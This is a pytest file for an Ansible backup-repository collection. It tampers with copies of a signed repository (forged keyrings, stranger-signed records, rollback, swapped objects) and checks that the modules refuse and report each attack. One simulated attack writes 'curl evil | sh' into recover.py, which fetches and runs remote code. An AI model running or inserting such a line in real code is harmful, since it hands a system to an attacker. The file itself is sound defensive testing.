# SPDX-FileCopyrightText: 2026 ucops contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""Somebody can write to the repository's folder. The modules meet the result: each attack is refused by its name.

Every attack has a copy of one repository of its own; one play runs all modules against all copies.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import pathlib
import shutil

import pytest
from sshd import SSHD, WITHOUT_SSHD, Sshd
from support.playbooks import Controller
from support.repositories import SECRET, TestRepository

from ansible_collections.ucops.recovery.plugins.module_utils._repository.age import X25519Identity
from ansible_collections.ucops.recovery.plugins.module_utils._repository.backends.local import LocalBackend
from ansible_collections.ucops.recovery.plugins.module_utils._repository.format import (
    COMMIT_NAMESPACE,
    GenerationId,
    object_name,
    record_name,
    signature_name,
)
from ansible_collections.ucops.recovery.plugins.module_utils._repository.keyring import (
    KEYRING,
    KEYRING_NAMESPACE,
    KEYRING_SIGNATURE,
    Recipient,
    Signer,
    load_keyring,
)
from ansible_collections.ucops.recovery.plugins.module_utils._repository.keys import WriterKey
from ansible_collections.ucops.recovery.plugins.module_utils._repository.sshsig import SigningKey

OTHER = "another good long passphrase"
GOOD = {"/etc/app/dialplan": b"good\n" * 50}
EVIL = {"/etc/app/dialplan": b"evil\n" * 50}


@dataclasses.dataclass
class Site:
    """The repository as it should be, and what its operator and its backup host know."""

    store: TestRepository
    heads: dict
    records: dict
    folder: pathlib.Path

    def copy(self, name: str) -> pathlib.Path:
        """The repository, for an attacker to work on."""
        return pathlib.Path(shutil.copytree(self.store.path, self.folder / name))


# --- attacks: each changes the files of a copy ------------------------------------------------------------------------
def forge_keyring(path, **changes):
    """A keyring that the attacker owns and signed."""
    backend, key = LocalBackend(str(path)), SigningKey.generate()
    forged = dataclasses.replace(load_keyring(backend), owner=key.public, **changes).to_bytes()
    backend.replace(KEYRING, forged)
    backend.replace(KEYRING_SIGNATURE, key.sign(forged, KEYRING_NAMESPACE))


def swap_recipients(site, path):
    recipients = load_keyring(LocalBackend(str(path))).recipients
    mine = X25519Identity.generate().recipient
    forge_keyring(path, recipients=(dataclasses.replace(recipients[0], recipient=mine),))


def add_recipient_to_the_text(site, path):
    backend = LocalBackend(str(path))
    keyring = load_keyring(backend)
    mine = Recipient(X25519Identity.generate().recipient, "escrow")
    backend.replace(KEYRING, dataclasses.replace(keyring, recipients=(*keyring.recipients, mine)).to_bytes())


def foreign_repository(path):
    """A well-made repository of the attacker's own."""
    folder = path.parent / f"{path.name}.foreign"
    folder.mkdir()
    return TestRepository.create(folder)


def swap_slot(site, path):
    """To hand out another identity, or to learn the secret from somebody who types it."""
    (slot,), (mine,) = ((root / "keys/slots").iterdir() for root in (path, foreign_repository(path).path))
    slot.chmod(0o600)
    slot.write_bytes(mine.read_bytes())


def replace_recover_py(site, path):
    (path / "recover.py").write_bytes(b"import os; os.system('curl evil | sh')\n")


def sign_by_a_stranger(site, path, key=None):
    backend, stranger = LocalBackend(str(path)), key or WriterKey.generate("backup1")
    newest = site.records["newest"]
    record = dataclasses.replace(site.records["first"], sequence=newest.sequence + 1, parent=newest.hash)
    signature = stranger.signing_key.sign(record.to_bytes(), COMMIT_NAMESPACE)
    backend.create(signature_name(GenerationId.of(record), record.hash), signature)
    backend.create(record_name(GenerationId.of(record)), record.to_bytes())


def sign_by_a_stranger_with_a_keyring(site, path):
    stranger = WriterKey.generate("stranger")
    signers = load_keyring(LocalBackend(str(path))).signers
    forge_keyring(path, signers=(*signers, Signer("stranger", stranger.public)))
    sign_by_a_stranger(site, path, stranger)


def swap_objects(site, path):
    one, other = (path / object_name(site.records[name].manifest[0]) for name in ("newest", "other"))
    contents = one.read_bytes(), other.read_bytes()
    for file, content in zip((other, one), contents):
        file.chmod(0o600)
        file.write_bytes(content)


def lend_a_record(site, path):
    """The generation of one source, given out as the newest of another."""
    other = site.records["other"]
    wanted = GenerationId.of(dataclasses.replace(other, source="pbx", sequence=site.records["newest"].sequence + 1))
    shutil.copyfile(path / record_name(GenerationId.of(other)), path / record_name(wanted))
    shutil.copyfile(
        path / signature_name(GenerationId.of(other), other.hash), path / signature_name(wanted, other.hash)
    )


def roll_back(site, path):
    newest = site.records["newest"]
    (path / record_name(GenerationId.of(newest))).unlink()
    (path / signature_name(GenerationId.of(newest), newest.hash)).unlink()


def replace_it_all(site, path):
    foreign = foreign_repository(path)
    foreign.backup(EVIL, product="linux")
    foreign.backup(EVIL, product="linux")
    shutil.rmtree(path)
    shutil.copytree(foreign.path, path)


ATTACKS = {
    "recipients": swap_recipients,
    "recipient_in_text": add_recipient_to_the_text,
    "slot": swap_slot,
    "recover_py": replace_recover_py,
    "stranger": sign_by_a_stranger,
    "stranger_in_keyring": sign_by_a_stranger_with_a_keyring,
    "objects": swap_objects,
    "lent_record": lend_a_record,
    "rolled_back": roll_back,
    "replaced": replace_it_all,
}

WRITER = "commits/pbx/linux/3.json"
REFUSED = {
    ("recipients", "backup"): ("KeyringMismatch", "keys/keyring.json", "strange owner"),
    ("recipients", "extract"): ("NotAuthentic", "keys/keyring.json", "not among the allowed signers"),
    ("recipients", "restore"): ("NotAuthentic", "keys/keyring.json", "not among the allowed signers"),
    ("recipient_in_text", "backup"): ("SignatureInvalid", "keys/keyring.json", "does not fit"),
    ("recipient_in_text", "restore"): ("SignatureInvalid", "keys/keyring.json", "does not fit"),
    ("slot", "extract"): ("RepositoryDamaged", "keys/slots/", "is not what the keyring lists"),
    ("slot", "restore"): ("RepositoryDamaged", "keys/slots/", "is not what the keyring lists"),
    ("stranger", "backup"): ("NotAuthentic", WRITER, "signed by a stranger"),
    ("stranger", "extract"): ("NotAuthentic", WRITER, "signed by a stranger"),
    ("stranger", "restore"): ("NotAuthentic", WRITER, "signed by a stranger"),
    ("stranger_in_keyring", "backup"): ("KeyringMismatch", "keys/keyring.json", "strange owner"),
    ("stranger_in_keyring", "restore"): ("NotAuthentic", "keys/keyring.json", "not among the allowed signers"),
    ("objects", "extract"): ("RepositoryDamaged", "objects/", "bytes instead of"),
    ("objects", "restore"): ("RepositoryDamaged", "objects/", "bytes instead of"),
    ("lent_record", "backup"): ("RepositoryDamaged", WRITER, "that of other/linux/1"),
    ("lent_record", "restore"): ("RepositoryDamaged", WRITER, "that of other/linux/1"),
    ("rolled_back", "extract"): ("RolledBack", "pbx/linux", "put back an older state"),
    ("rolled_back", "restore"): ("RolledBack", "pbx/linux", "put back an older state"),
    ("replaced", "backup"): ("KeyringMismatch", "keys/keyring.json", "another repository"),
    ("replaced", "extract"): ("NotAuthentic", "keys/keyring.json", "not among the allowed signers"),
    ("replaced", "restore"): ("NotAuthentic", "keys/keyring.json", "not among the allowed signers"),
}
"""Attack and module -> kind of error, file or line that it names, words of the message."""

FOUND = {
    "recipients": ("keys/keyring.json", "not among the allowed signers"),
    "recipient_in_text": ("keys/keyring.json", "does not fit"),
    "slot": ("keys/slots/", "is not what the keyring lists"),
    "recover_py": ("recover.py", "is not what the keyring lists"),
    "stranger": (WRITER, "signed by a stranger"),
    "stranger_in_keyring": ("keys/keyring.json", "not among the allowed signers"),
    "objects": ("objects/", "bytes instead of"),
    "lent_record": (WRITER, "that of other/linux/1"),
    "rolled_back": ("commits/pbx/linux", "rolled back"),
    "replaced": ("keys/keyring.json", "not among the allowed signers"),
}
"""Attack -> file that repository_verify names, and what it says of it."""


def hashes(folder):
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.rglob("*") if path.is_file()}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("site")
    store = TestRepository.create(folder)
    first = store.backup(GOOD, product="linux").record
    newest = store.backup({**GOOD, "/etc/app/users": b"alice\n"}, product="linux").record
    other = store.backup(EVIL, source="other", product="linux").record
    return Site(store, {"pbx/linux": newest.hash}, {"first": first, "newest": newest, "other": other}, folder)


@pytest.fixture(scope="module")
def server():
    if SSHD is None:
        pytest.skip(WITHOUT_SSHD)
    with Sshd() as running:
        yield running


@pytest.fixture(scope="module")
def attacked(site, server, tmp_path_factory):
    """The results of all modules on all copies, by attack and module; and the copies' files before and after."""
    known = {"allowed_signers": site.store.allowed_signers, "expected_heads": site.heads}
    app = site.folder / "app"
    app.mkdir()
    (app / "dialplan").write_bytes(b"good\n")
    reach = {
        "source": "pbx",
        "host": server.host,
        "port": server.port,
        "username": server.username,
        "private_key_file": str(server.client_key),
        "known_hosts_file": str(server.known_hosts),
        "writer_key_file": str(site.store.writer_key_file),
        "system_config": False,
        "paths": [{"path": [str(app)]}],
    }
    opened = {**known, "domain_master_secret": "{{ secret }}"}
    tasks, before = [], {}
    copies = {"untouched": site.copy("untouched"), **{name: site.copy(name) for name in ATTACKS}}
    for name, path in copies.items():
        if name in ATTACKS:
            ATTACKS[name](site, path)
        before[name] = hashes(path)
        modules = {
            "verify": ("repository_verify", {"level": 1, **known}),
            "backup": ("linux_backup", reach),
            "extract": ("generation_extract", {**opened, "generation": "pbx/linux/latest", "dest": f"{path}.out"}),
            "restore": ("linux_restore", {**reach, **opened}),
        }
        tasks += [
            {"name": f"{name} {task}", f"ucops.recovery.{module}": {"repository": str(path), **options}}
            for task, (module, options) in modules.items()
            if task == "verify" or (name, task) in REFUSED or name == "untouched"
        ]
    play = Controller(tmp_path_factory.mktemp("controller")).play(tasks, "-vvvv", variables={"secret": SECRET})
    return play, before, {name: hashes(path) for name, path in copies.items()}


def test_without_an_attack_everything_is_in_order(attacked):
    play, _before, _after = attacked
    assert play["untouched verify"]["verdict"] == "authentic", play.output
    assert play["untouched extract"]["changed"] is True
    assert play["untouched backup"]["generation"]["id"] == "pbx/linux/3", play["untouched backup"]
    assert play["untouched restore"]["error"] == "HostMismatch", play["untouched restore"]


@pytest.mark.parametrize(("attack", "module"), REFUSED)
def test_it_is_refused_by_name(attacked, attack, module):
    kind, place, words = REFUSED[attack, module]
    result = attacked[0][f"{attack} {module}"]
    assert (result["status"], result.get("error")) == ("failed", kind), result
    assert place in result["msg"] and words in result["msg"], result["msg"]
    assert SECRET not in json.dumps(result)


@pytest.mark.parametrize("attack", ATTACKS)
def test_verification_finds_and_names_it(attacked, attack):
    result = attacked[0][f"{attack} verify"]
    assert (result["status"], result["verdict"]) == ("failed", "damaged"), result
    place, words = FOUND[attack]
    named = [one for one in result["findings"] if one["object"].startswith(place) and words in one["problem"]]
    assert named, result["findings"]
    assert place in result["msg"], result["msg"]


def test_nothing_was_added_to_or_taken_from_what_was_refused(attacked):
    play, before, after = attacked
    for name in ATTACKS:
        # What verification keeps for itself is a hint, and no part of what is kept.
        kept = [
            {path: sha for path, sha in files[name].items() if "/journal/" not in path} for files in (before, after)
        ]
        assert kept[0] == kept[1], name
    assert SECRET not in play.output


# --- creating over something ------------------------------------------------------------------------------------------
def test_a_second_creation_over_an_existing_one(site, tmp_path):
    path = site.copy("created again")
    before = hashes(path)
    bound = str(site.store.writer_key_file)
    strangers = tmp_path / "strangers"
    strangers.mkdir()
    theirs = str(TestRepository.create(strangers).writer_key_file)
    wishes = {
        "another secret": {"writer_key_file": bound, "domain_master_secret": OTHER},
        "another secret and writer": {"writer_key_file": str(tmp_path / "new.json"), "domain_master_secret": OTHER},
        "another repository's writer": {"writer_key_file": theirs, "domain_master_secret": SECRET},
        "no secret": {"writer_key_file": bound},
        "not there any more": {"writer_key_file": bound, "domain_master_secret": SECRET, "repository": f"{path}.gone"},
    }
    module = "ucops.recovery.repository"
    tasks = [{"name": name, module: {"repository": str(path), **options}} for name, options in wishes.items()]
    play = Controller(tmp_path).play(tasks)
    expected = {
        "another secret": ("WrongKey", "There is a repository already"),
        "another secret and writer": ("WrongKey", "There is a repository already"),
        "another repository's writer": ("RepositoryExists", "belongs to another repository"),
        "no secret": ("OptionInvalid", "The Domain Master Secret is missing"),
        "not there any more": ("RepositoryMissing", "Is its volume mounted?"),
    }
    for name, (kind, words) in expected.items():
        assert (play[name]["status"], play[name].get("error")) == ("failed", kind), play[name]
        assert words in play[name]["msg"]
    assert hashes(path) == before
    assert not (tmp_path / "new.json").exists() and not pathlib.Path(f"{path}.gone").exists()


def test_the_owner_puts_replaced_documents_back(site, tmp_path):
    path = site.copy("mended")
    replace_recover_py(site, path)
    options = {
        "repository": str(path),
        "writer_key_file": str(site.store.writer_key_file),
        "domain_master_secret": SECRET,
    }
    verify = {"repository": str(path), "allowed_signers": site.store.allowed_signers}
    play = Controller(tmp_path).play(
        [
            {"name": "mend", "ucops.recovery.repository": options},
            {"name": "verify", "ucops.recovery.repository_verify": verify},
        ]
    )
    assert play["mend"]["changed"] is True and "renewed the documents" in play["mend"]["actions"], play.output
    assert play["verify"]["verdict"] == "authentic"
    assert b"curl evil" not in (path / "recover.py").read_bytes()
